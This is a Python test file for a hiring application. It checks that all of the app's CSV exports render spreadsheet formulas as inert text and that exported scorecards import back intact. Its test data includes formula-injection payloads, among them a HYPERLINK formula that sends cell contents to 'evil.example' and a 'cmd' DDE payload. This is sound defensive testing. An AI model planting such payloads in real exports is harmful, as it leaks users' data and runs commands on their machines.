"""CSV formula injection: every CSV the app writes (the scorecard export, `hiring rollup`,
the candidate list's and a candidate's rollup downloads, the calibration download) shows
text that a spreadsheet would run as a formula as text, behind an apostrophe (at the start
of a cell, and after a ";" where a spreadsheet splits cells at one), keeps
numbers (negative ones too) as numbers, and the scorecard export still imports back to
exactly what the app stored."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlmodel import Session, select

from hiring import scoring
from hiring.candidates import assign_interview, create_candidate
from hiring.db import new_session
from hiring.models import Candidate, Interview, Recommendation, Role, Scorecard, User
from hiring.rubric_loader import RubricSet
from hiring.scorecard_csv_format import escape, unescape
from hiring.scoring import RatingInput, ScorecardInput
from hiring.tables import FORMULA_STARTS, csv_text, safe_cell
from tests.conftest import AuthActions
from tests.helpers import empty_tables, make_user
from tests.rubric_samples import VALID_RUBRIC

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
# Candidates: each payload as a name, with an address that looks like a formula too.
PEOPLE = dict(
    zip(
        PAYLOADS,
        ["=1@example.com", "+1@example.com", "-1@example.com", "sum@example.com"],
        strict=True,
    )
)
# A carriage return starts a new row in a spreadsheet: the formula after it must stay
# inside its quoted cell.
NEW_ROW = f"Ann Bell\r{HYPERLINK}"
# Excel where the list separator is ";" splits cells there: the formula after it must not
# start a cell.
SPLIT = f"Bo Chen;{HYPERLINK}"
# A scale below zero, so that negative ratings and means reach the exports.
SIGNED_RUBRIC = """\
id: signed-role
title: Signed role
version: 1
scale:
  - {value: -1, label: Below the bar}
  - {value: 0, label: At the bar}
  - {value: 1, label: Above the bar}
competencies:
  - id: judgement
    name: Judgement
    anchors: {-1: Guessed., 0: Reasoned., 1: Reasoned and checked.}
"""
# Interviewers with addresses that look like formulas (valid addresses all the same), one
# a point more lenient than the other.
LENIENT, HARSH = "-2+3@example.com", "=cmd@example.com"


@pytest.fixture
def csv_app(make_app: Callable[..., Flask], tmp_path: Path) -> Flask:
    """A candidate per payload (as name, email and evidence) on test-role (scale 1 to 4),
    the "-2+3" one on signed-role (-1 to 1), plus NEW_ROW; each scored by both
    interviewers, LENIENT a point above HARSH."""
    folder = tmp_path / "rubrics"
    folder.mkdir()
    (folder / "test-role.yaml").write_text(VALID_RUBRIC)
    (folder / "signed-role.yaml").write_text(SIGNED_RUBRIC)
    app = make_app(HIRING_RUBRICS_DIR=str(folder))
    rubrics = app.extensions["hiring.rubrics"].current()
    with new_session(app.extensions["hiring.engine"]) as session:
        make_user(session, email="rita@example.com", name="Rita", role=Role.RECRUITER)
        for email in (LENIENT, HARSH):
            make_user(session, email=email, name=email.split("@")[0])
        people = [*PEOPLE.items(), (NEW_ROW, "ann@example.com"), (SPLIT, "bo@example.com")]
        for name, email in people:
            rubric_id = "signed-role" if name == "-2+3" else "test-role"
            candidate = create_candidate(
                session=session, rubrics=rubrics, name=name, email=email, rubric_id=rubric_id
            )
            for interviewer, offset in ((LENIENT, 1), (HARSH, 0)):
                _submit(session, rubrics, candidate, interviewer, offset, evidence=name)
        session.commit()
    return app


def _submit(
    session: Session,
    rubrics: RubricSet,
    candidate: Candidate,
    email: str,
    offset: int,
    evidence: str,
) -> None:
    """The interviewer's submitted scorecard: the scale's lowest value plus `offset` for
    every competency, with `evidence`."""
    interview = assign_interview(
        session=session, rubrics=rubrics, candidate=candidate, interviewer_email=email
    )
    rubric = rubrics.rubrics[candidate.rubric_id]
    rating = rubric.scale[0].value + offset
    data = ScorecardInput(
        ratings={c.id: RatingInput(rating=rating, evidence=evidence) for c in rubric.competencies},
        recommendation=Recommendation.YES,
        submit=True,
    )
    author = session.exec(select(User).where(User.email == email)).one()
    scoring.save_scorecard(
        session=session, interview=interview, author=author, data=data, current_rubric=rubric
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _cli(app: Flask, *args: str) -> str:
    result = app.test_cli_runner().invoke(args=list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def _download(app: Flask, path: str) -> str:
    client = app.test_client()
    assert AuthActions(client).login("rita@example.com").status_code == 302
    response = client.get(path)
    assert (response.status_code, response.mimetype) == (200, "text/csv")
    return response.get_data(as_text=True)


def _candidate_ids(app: Flask) -> list[int]:
    with new_session(app.extensions["hiring.engine"]) as session:
        return [i for i in session.exec(select(Candidate.id)) if i is not None]


EXPORTS: dict[str, Callable[[Flask], str]] = {
    "hiring export scorecards": lambda app: _cli(app, "export", "scorecards", "-"),
    "hiring rollup --format csv": lambda app: _cli(app, "rollup", "--format", "csv"),
    "/candidates/rollups.csv": lambda app: _download(app, "/candidates/rollups.csv"),
    "/candidates/<id>/rollup.csv": lambda app: "".join(
        _download(app, f"/candidates/{i}/rollup.csv") for i in _candidate_ids(app)
    ),
    "/calibration/test-role/calibration.csv": lambda app: _download(
        app, "/calibration/test-role/calibration.csv"
    ),
}
# What each export shows of the data: names, emails, evidence.
EMAILS = ["=1@example.com", "+1@example.com", "-1@example.com"]
SHOWN = {
    "hiring export scorecards": [*PAYLOADS, *EMAILS, LENIENT, HARSH],
    "hiring rollup --format csv": [*PAYLOADS, *EMAILS],
    "/candidates/rollups.csv": [*PAYLOADS, *EMAILS],
    "/candidates/<id>/rollup.csv": [*PAYLOADS, *EMAILS],
    "/calibration/test-role/calibration.csv": [LENIENT, HARSH],
}


@pytest.mark.parametrize("export", EXPORTS)
def test_every_export_shows_formulas_as_text(csv_app: Flask, export: str) -> None:
    text = EXPORTS[export](csv_app)
    cells = [cell for row in _rows(text) for cell in row]
    for payload in SHOWN[export]:
        assert f"'{payload}" in cells, (payload, text)
        assert payload not in cells
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start so: -0.5, say


@pytest.mark.parametrize("export", [e for e in EXPORTS if "calibration" not in e])
def test_a_carriage_return_cannot_start_a_row_of_its_own(csv_app: Flask, export: str) -> None:
    text = EXPORTS[export](csv_app)
    quoted = NEW_ROW.replace('"', '""')
    assert f'"{quoted}"' in text  # quoted: a spreadsheet keeps it in one cell
    assert NEW_ROW in [cell for row in _rows(text) for cell in row]


@pytest.mark.parametrize("export", [e for e in EXPORTS if "calibration" not in e])
def test_a_semicolon_cannot_start_a_formula_cell(csv_app: Flask, export: str) -> None:
    text = EXPORTS[export](csv_app)
    assert [cell for row in _rows(text) for cell in row if cell.startswith("Bo Chen")] != []
    for line in text.splitlines():
        for piece in line.split(";")[1:]:  # as a spreadsheet splitting at ";" reads it
            assert not piece.startswith(FORMULA_STARTS), (piece, line)


def _column(text: str, name: str, where: Callable[[dict[str, str]], bool]) -> list[str]:
    header, *body = _rows(text)
    return [row[header.index(name)] for row in body if where(dict(zip(header, row, strict=True)))]


def test_negative_numbers_stay_numbers(csv_app: Flask) -> None:
    calibration = EXPORTS["/calibration/test-role/calibration.csv"](csv_app)
    [harsh] = _column(calibration, "leniency", lambda row: row["id"] == f"'{HARSH}")
    assert float(harsh) == pytest.approx(-0.5)
    signed = lambda row: row["candidate_name"] == "'-2+3"  # noqa: E731
    for export in ("hiring rollup --format csv", "/candidates/rollups.csv"):
        text = EXPORTS[export](csv_app)
        assert _column(text, "min", signed) == ["-1"]
        assert _column(text, "mean", signed) == ["-0.5"]
    ratings = _column(EXPORTS["hiring export scorecards"](csv_app), "rating", signed)
    assert sorted(ratings) == ["-1", "0"]


def _stored(app: Flask) -> dict[tuple[str, str], tuple[str, dict[str, object]]]:
    """Each submitted scorecard's candidate name and ratings, by candidate and interviewer."""
    with new_session(app.extensions["hiring.engine"]) as session:
        rows = session.exec(
            select(Candidate.email, User.email, Candidate.name, Scorecard.ratings)
            .join(Interview, Interview.id == Scorecard.interview_id)  # type: ignore[arg-type]
            .join(Candidate, Candidate.id == Interview.candidate_id)  # type: ignore[arg-type]
            .join(User, User.id == Interview.interviewer_id)  # type: ignore[arg-type]
        )
        return {(c, i): (name, ratings) for c, i, name, ratings in rows}


def test_the_scorecard_export_imports_back_to_what_was_stored(
    csv_app: Flask, tmp_path: Path
) -> None:
    rubrics = csv_app.extensions["hiring.rubrics"].current()
    with new_session(csv_app.extensions["hiring.engine"]) as session:
        typed_so = ["'=typed with its apostrophe", "''", "'", "'plain", "a;=b", "a;'=b", "a;''b"]
        for n, typed in enumerate(typed_so):
            candidate = create_candidate(
                session=session,
                rubrics=rubrics,
                name=typed,
                email=f"typed{n}@example.com",
                rubric_id="test-role",
            )
            _submit(session, rubrics, candidate, HARSH, 1, evidence=typed)
        session.commit()
    stored = _stored(csv_app)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    _cli(csv_app, "export", "scorecards", str(first))
    assert "''=typed with its apostrophe" in first.read_text()  # one apostrophe more
    empty_tables(csv_app.extensions["hiring.engine"])
    _cli(csv_app, "import", "scorecards", str(first))
    assert _stored(csv_app) == stored
    _cli(csv_app, "export", "scorecards", str(second))
    assert second.read_bytes() == first.read_bytes()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, f"'{HYPERLINK}"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "'=1+1"),  # already shown as text
        ("Plain = text", "Plain = text"),
        (SPLIT, f"Bo Chen;'{HYPERLINK}"),
        ("-1;-2", "'-1;'-2"),
        ("a;b; c;'=d", "a;b; c;'=d"),
        (-2, "-2"),
        (-0.5, "-0.5"),
        (np.int64(-2), "-2"),
        (np.float64(-0.5), "-0.5"),
        (float("-inf"), "'-inf"),  # no number to a spreadsheet
        (True, "yes"),
        (None, ""),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell
    assert _rows(csv_text(["value"], [[value]])) == [["value"], [cell]]


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab;'=+-@\t\r \"")) | st.text())
def test_any_text_exports_safely_and_imports_back(text: str) -> None:
    cell = safe_cell(escape(text))
    assert unescape(cell) == text
    for piece in [cell, *cell.split(";")[1:]]:
        assert not piece.startswith(FORMULA_STARTS), (text, cell)
